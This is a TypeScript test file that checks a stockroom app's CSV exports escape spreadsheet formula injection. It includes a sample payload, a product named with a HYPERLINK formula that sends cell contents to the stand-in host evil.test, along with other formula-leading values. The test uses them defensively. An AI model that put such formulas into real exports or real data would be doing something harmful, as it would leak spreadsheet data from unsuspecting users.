import { useTestDatabase } from "@stockroom/db/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createStockWorld, createTestDeps, ManualClock, productWithStock } from "../testing/index.ts";
import { expiryWasteCsv } from "./expiry-waste-report.ts";
import { formulaSafeCell } from "./safe-csv.ts";

const database = useTestDatabase();
let testDeps: Awaited<ReturnType<typeof createTestDeps>>;

beforeAll(async () => {
  testDeps = await createTestDeps(database.current.db, database.current.url, new ManualClock(new Date("2026-06-01T09:00:00Z")));
});
afterAll(() => testDeps.close());

describe("CSV exports against formula injection", () => {
  it("prefixes text cells starting with = + - @ tab or CR with a quote, and leaves the rest", () => {
    expect(["=1+1", "+1", "-cmd", "@SUM(A1)", "\tx", "\rx"].map(formulaSafeCell)).toEqual(["'=1+1", "'+1", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx"]);
    expect(["Honey", "a=b", "-12.50", "3", ""].map(formulaSafeCell)).toEqual(["Honey", "a=b", "-12.50", "3", ""]);
  });

  it("the expiry & waste CSV shows a product named =HYPERLINK(...) as text", async () => {
    const world = await createStockWorld(database.current.db);
    const evilShelf = await database.current.db.location.create({ data: { producerId: world.producer.id, name: "+Shelf", isSellable: false } });
    await productWithStock(testDeps.deps, world, [{ quantity: 3, expiryDate: "2026-06-05", lotNumber: "-2+3", locationId: evilShelf.id, unitCostCents: 100 }], {
      name: '=HYPERLINK("http://evil.test/?d="&A1,"Click")',
      sku: "@SUM(1+1)",
    });
    const csv = await expiryWasteCsv(testDeps.deps, world.admin, { producerId: world.producer.id, from: "2026-05-01", to: "2026-06-30" });
    expect(csv.split("\n")).toEqual([
      "band,product,sku,lot,location,expiry_date,units,value_at_cost",
      `DAYS_7,"'=HYPERLINK(""http://evil.test/?d=""&A1,""Click"")",'@SUM(1+1),'-2+3,'+Shelf,2026-06-05,3,3.00`,
      "",
    ]);
  });
});
